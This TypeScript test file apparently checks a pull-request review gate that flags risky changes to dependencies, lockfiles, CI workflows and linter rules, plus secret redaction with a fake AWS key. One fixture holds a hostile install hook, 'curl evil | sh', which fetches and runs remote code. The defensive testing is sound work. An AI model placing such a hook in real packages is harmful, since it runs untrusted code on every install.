import { type Case, linesOf } from "./deciding-lines";

const workflow = (values: string): string =>
  `name: review\non:\n  pull_request:\npermissions: {}\njobs:\n  check:\n    runs-on: ubuntu-24.04\n    steps:\n${values}`;
const STEP = "      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\n";
const CHECK = "      - run: npx private-eks-inference check\n";
const WORKFLOW = ".github/workflows/review.yml";

const CASES: readonly Case[] = [
  [
    "another release of the program",
    {
      "package.json": [
        '{"dependencies":{"private-eks-inference":"1.0.0"}}',
        '{"dependencies":{"private-eks-inference":"1.1.0"}}',
      ],
    },
    [/^attention: .*private-eks-inference.*1\.0\.0 → 1\.1\.0.*checks/],
  ],
  [
    "a script of npm",
    { "package.json": ['{"scripts":{}}', '{"scripts":{"postinstall":"curl evil | sh"}}'] },
    [/^attention: .*scripts\.postinstall/],
  ],
  [
    "the same release of a package with other content",
    {
      "package-lock.json": [
        '{"packages":{"node_modules/a":{"version":"1.0.0","integrity":"sha512-a"}}}',
        '{"packages":{"node_modules/a":{"version":"1.0.0","integrity":"sha512-b"}}}',
      ],
    },
    [/^attention: .*node_modules\/a 1\.0\.0.*other content/],
  ],
  [
    "a package of another registry",
    {
      "package-lock.json": [
        '{"packages":{"node_modules/a":{"version":"1.0.0","resolved":"https://one.example/a.tgz","integrity":"sha512-a"}}}',
        '{"packages":{"node_modules/a":{"version":"1.0.0","resolved":"https://two.example/a.tgz","integrity":"sha512-a"}}}',
      ],
    },
    [/^attention: .*node_modules\/a.*one\.example → two\.example/],
  ],
  [
    "a package in a lock of an old format",
    {
      "package-lock.json": [
        '{"lockfileVersion":1,"dependencies":{"a":{"version":"1.0.0"}}}',
        '{"lockfileVersion":1,"dependencies":{"a":{"version":"1.0.1"}}}',
      ],
    },
    [/^attention: .*package-lock\.json.*not understood/],
  ],
  [
    "a workflow that runs for one more event",
    { [WORKFLOW]: [workflow(STEP), workflow(STEP).replace("on:\n", "on:\n  pull_request_target:\n")] },
    [/^attention: .*on\.pull_request_target.*what runs/],
  ],
  [
    "a workflow without the step that checks",
    { [WORKFLOW]: [workflow(STEP + CHECK), workflow(STEP)] },
    [/^attention: .*review\.yml.*jobs\.check\.steps/],
  ],
  [
    "a workflow with more permissions",
    {
      [WORKFLOW]: [
        workflow(STEP),
        workflow(STEP).replace("permissions: {}", "permissions:\n  contents: write"),
      ],
    },
    [/^attention: .*permissions.*write/],
  ],
  [
    "a workflow with a comment",
    { [WORKFLOW]: [workflow(STEP), `# reviewed\n${workflow(STEP)}`] },
    [/^info: .*only comments/],
  ],
  [
    "an action by a tag",
    { [WORKFLOW]: [workflow(STEP), workflow("      - uses: actions/checkout@v4\n")] },
    [/^attention: .*actions\/checkout.*not fixed/],
  ],
  [
    "a workflow that is removed",
    { [WORKFLOW]: [workflow(STEP), undefined] },
    [/^attention: .*review\.yml.*removed/],
  ],
  [
    "a rule of TFLint that is off",
    { ".tflint.hcl": ['rule "a" {\n  enabled = true\n}\n', 'rule "a" {\n  enabled = false\n}\n'] },
    [/^attention: .*tflint.*a.*off/i],
  ],
  [
    "a rule of TFLint that is on",
    { ".tflint.hcl": ['rule "a" {\n  enabled = false\n}\n', 'rule "a" {\n  enabled = true\n}\n'] },
    [/^info: .*tflint.*a.*on/i],
  ],
  [
    "a check of Checkov that is skipped",
    { ".checkov.yaml": ["skip-check:\n  - CKV_1\n", "skip-check:\n  - CKV_1\n  - CKV_2\n"] },
    [/^attention: .*CKV_2/],
  ],
  [
    "a check of Checkov that is skipped in one text",
    { ".checkov.yaml": ["skip-check: CKV_1\n", "skip-check: CKV_1,CKV_2\n"] },
    [/^attention: .*skip-check.*not understood/],
  ],
  [
    "a check of Checkov that runs again",
    { ".checkov.yaml": ["skip-check:\n  - CKV_1\n", "skip-check: []\n"] },
    [/^info: .*CKV_1/],
  ],
  [
    "an own check that is removed",
    { "environments/checks/tags.ts": ["export default {};", undefined] },
    [/^attention: .*own check tags.*no longer/],
  ],
  [
    "an own check that changes",
    { "environments/checks/tags.ts": ["a", "b"] },
    [/^attention: .*own check tags.*not understood/],
  ],
  [
    "facts of the program",
    { "src/evidence/aws.ts": ["a", "b"], "src/evidence/eks.ts": ["a", "b"] },
    [/^attention: src\/evidence\/aws\.ts and 1 more .*facts.*not understood/],
  ],
  [
    "checks of the program",
    { "src/checks/all.ts": ["a", "b"] },
    [/^attention: src\/checks\/all\.ts .*checks/],
  ],
  ["a script of the gate", { ".ci/run": ["a", "b"] }, [/^attention: .*\.ci\/run.*not understood/]],
  ["the owners of code", { ".github/CODEOWNERS": ["a", "b"] }, [/^attention: .*CODEOWNERS.*approve/]],
  [
    "a file with invalid text",
    { [WORKFLOW]: [workflow(STEP), "jobs: ["] },
    [/^attention: .*review\.yml.*not understood/],
  ],
  [
    "a page of the documentation",
    { "docs/guide/review.md": ["a", "b"], "environments/prod.yaml": ["a: 1", "a: 2"] },
    [],
  ],
];

test.each(CASES)("%s", (_, files, expected) => {
  expect(linesOf(files)).toEqual(expected.map((each) => expect.stringMatching(each) as unknown));
});

test("no line shows a secret", () => {
  const key = `AKIA${"ABCDEFGHJKMN2345"}`;
  const [before, after] = [
    workflow(STEP),
    workflow(STEP).replace("permissions: {}", `permissions:\n  ${key}: write`),
  ];
  const text = linesOf({ [WORKFLOW]: [before, after], [`.ci/${key}`]: ["a", "b"] }).join("\n");
  expect(text).not.toContain(key);
});
